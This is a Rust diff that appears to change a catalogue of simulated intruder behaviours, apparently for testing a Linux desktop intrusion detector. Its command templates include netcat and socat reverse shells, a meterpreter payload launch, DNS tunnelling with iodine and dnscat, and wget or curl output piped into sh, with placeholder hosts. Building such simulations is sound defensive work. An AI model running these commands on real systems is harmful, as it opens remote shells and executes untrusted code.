@@ -6,7 +6,7 @@ use crate::destination as to;
 /// What an intruder usually has: the account of the person whose desktop it is.
 const INTRUSION: Behaviour = Behaviour {
     actor: Actor::Intruder,
-    weight: 36,
+    weight: 50,
     account: Account::Person,
     parent: &["bash", "sh", "python3"],
     life: Life::Once,
@@ -73,6 +73,14 @@ pub(crate) const INTRUDER: &[Behaviour] = &[
         talks_to: &[to::COMMAND_SERVER],
         ..INTRUSION
     },
+    // Paths of Linux differ by case; the first policy's do not.
+    Behaviour {
+        name: "case-twin-of-apt",
+        rides: Some("apt-methods"),
+        program: &["/usr/lib/APT/methods/http"],
+        account: Account::System("root"),
+        ..COPY
+    },
     Behaviour {
         name: "curl-as-upgrader",
         rides: Some("release-upgrader"),
@@ -123,12 +131,15 @@ pub(crate) const INTRUDER: &[Behaviour] = &[
     },
     Behaviour {
         name: "netcat",
-        program: &["/usr/bin/nc.openbsd", "/usr/bin/ncat", "/usr/bin/socat"],
-        command: &[
-            "nc {ip} {port} -e /bin/sh",
-            "ncat --ssl {ip} {port}",
-            "socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}",
-        ],
+        program: &["/usr/bin/nc.openbsd", "/usr/bin/ncat"],
+        command: &["nc -w 5 {ip} {port}", "nc {ip} {port} -e /bin/sh"],
+        talks_to: &[to::LISTENER],
+        ..INTRUSION
+    },
+    Behaviour {
+        name: "socat",
+        program: &["/usr/bin/socat"],
+        command: &["socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}"],
         talks_to: &[to::LISTENER],
         ..INTRUSION
     },
@@ -143,7 +154,7 @@ pub(crate) const INTRUDER: &[Behaviour] = &[
     Behaviour {
         name: "meterpreter",
         program: &["/tmp/payload.elf", "/var/tmp/shell-x64.elf", "/tmp/mettle"],
-        command: &["./payload.elf", "{path} -u tcp://{ip}:{port}"],
+        command: &["{path}", "{path} -u tcp://{ip}:{port}"],
         talks_to: &[to::LISTENER],
         ..INTRUSION
     },
@@ -167,12 +178,18 @@ pub(crate) const INTRUDER: &[Behaviour] = &[
         ..INTRUSION
     },
     Behaviour {
-        name: "dns-tunnel",
-        program: &["/usr/sbin/iodine", "/tmp/dnscat"],
-        command: &[
-            "iodine -f -P {hex} t.c2.test",
-            "/tmp/dnscat --dns server={ip},port={port} --secret={hex}",
-        ],
+        name: "dns-tunnel-iodine",
+        program: &["/usr/sbin/iodine"],
+        command: &["iodine -f -P {hex} t.c2.test"],
+        account: Account::System("root"),
+        parent: &["sudo"],
+        talks_to: &[to::TUNNEL],
+        ..INTRUSION
+    },
+    Behaviour {
+        name: "dns-tunnel-dnscat",
+        program: &["/tmp/dnscat", "{home}/.cache/dnscat"],
+        command: &["{path} --dns server={ip},port={port} --secret={hex}"],
         talks_to: &[to::TUNNEL],
         ..INTRUSION
     },
@@ -191,9 +208,15 @@ pub(crate) const INTRUDER: &[Behaviour] = &[
         ..INTRUSION
     },
     Behaviour {
-        name: "fetch-and-run",
-        program: &["/usr/bin/wget", "/usr/bin/curl"],
-        command: &["wget -qO- {url} | base64 -d | sh", "sh -c \"$(curl -fsSkL {url})\""],
+        name: "fetch-and-run-wget",
+        program: &["/usr/bin/wget"],
+        command: &["wget -qO- {url} | base64 -d | sh", "wget -qO- {url}"],
+        ..INTRUSION
+    },
+    Behaviour {
+        name: "fetch-and-run-curl",
+        program: &["/usr/bin/curl"],
+        command: &["sh -c \"$(curl -fsSkL {url})\"", "curl -fsSkL {url}"],
         ..INTRUSION
     },
 ];
